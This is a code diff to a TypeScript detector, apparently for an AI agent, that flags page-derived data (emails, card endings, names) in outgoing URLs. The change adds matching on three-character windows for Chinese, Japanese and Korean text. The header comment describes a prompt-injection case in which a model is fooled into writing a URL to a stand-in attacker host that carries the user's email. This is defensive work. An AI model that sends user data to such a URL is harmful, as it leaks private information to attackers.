@@ -3,7 +3,7 @@
  * fooled into writing `https://attacker.test/?q=<the user's email>`; we cannot read the model's mind, but we can
  * notice that the URL holds data that arrived from a page and that the user never typed themselves.
  *
- * Page tokens: words of >= 6 characters, emails, numbers of >= 4 digits (card endings, order ids, phone numbers).
+ * Page tokens: words of >= 6 characters (3 in Chinese, Japanese or Korean), emails, numbers of >= 4 digits (card endings, order ids, phone numbers).
  * User tokens: the user's own words (>= 3 characters), which are fine to send anywhere the user asked for.
  * Plain JSON arrays, capped, so the state persists with the task.
  */
@@ -40,7 +40,7 @@ export function tokens(text: string, minWord = 6): string[] {
   }
   for (const m of lower.matchAll(WORD)) {
     const word = m[0].replace(/^[._+@-]+|[._+@-]+$/g, '');
-    if (word.length >= minWord) out.add(word);
+    if (word.length >= minWord || (CJK_ANY.test(word) && [...word].length >= Math.min(minWord, CJK_WINDOW))) out.add(word);
     // "john.doe_42" is also "john", "doe": keep the parts so a re-spelled copy still matches.
     for (const part of word.split(/[._+@-]+/)) if (part.length >= minWord && part !== word) out.add(part);
   }
@@ -86,7 +86,30 @@ export function carriedData(text: string, seen: SeenData): string[] {
   const found = new Set<string>();
   for (const t of tokens(lower, 6)) if (page.has(t) && !user.has(t)) found.add(t);
   for (const t of seen.page) if (t.length >= 8 && !user.has(t) && lower.includes(t)) found.add(t);
+  for (const t of cjkCarried(lower, seen)) found.add(t);
   return [...found];
+}
+
+/** Chinese, Japanese and Korean are written without spaces: a page's sentence is one long token. */
+const CJK_RUN = /[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}]{3,}/gu;
+const CJK_ANY = /[\p{Script=Han}\p{Script=Hiragana}\p{Script=Katakana}\p{Script=Hangul}]/u;
+/** Three CJK characters hold about as much as six Latin letters (a full name, a street): the same bar as words. */
+const CJK_WINDOW = 3;
+
+/**
+ * CJK page data inside the text: every 3-character window of its CJK runs that some page token contains and no
+ * user token does (the user's own words, in any sentence they wrote, are theirs to send).
+ */
+function cjkCarried(lower: string, seen: SeenData): string[] {
+  const out = new Set<string>();
+  for (const run of lower.match(CJK_RUN) ?? []) {
+    const chars = [...run];
+    for (let i = 0; i + CJK_WINDOW <= chars.length; i++) {
+      const window = chars.slice(i, i + CJK_WINDOW).join('');
+      if (seen.page.some((t) => t.includes(window)) && !seen.user.some((t) => t.includes(window))) out.add(window);
+    }
+  }
+  return [...out];
 }
 
 /**
